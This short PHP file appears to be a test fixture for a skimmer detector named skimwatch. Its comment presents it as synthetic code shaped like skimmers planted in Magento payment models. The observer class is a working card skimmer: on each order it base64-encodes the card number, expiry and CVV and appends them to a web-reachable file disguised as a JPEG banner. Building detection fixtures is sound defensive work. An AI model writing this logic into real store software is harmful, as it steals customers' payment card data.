<?php
// Synthetic server-side skimmer for skimwatch tests, shaped like the code
// planted in a Magento payment model: the card from the order's payment is
// appended to a file named like an image, fetched later over the web.
class Cc_Observer
{
    public function execute($observer)
    {
        $p = $observer->getEvent()->getOrder()->getPayment();
        $line = base64_encode($p->getCcNumber() . '|' . $p->getCcExpMonth() . '/' . $p->getCcExpYear() . '|' . $p->getCcCid());
        file_put_contents(BP . '/pub/media/wysiwyg/banner_1.jpg', $line . "\n", FILE_APPEND);
    }
}
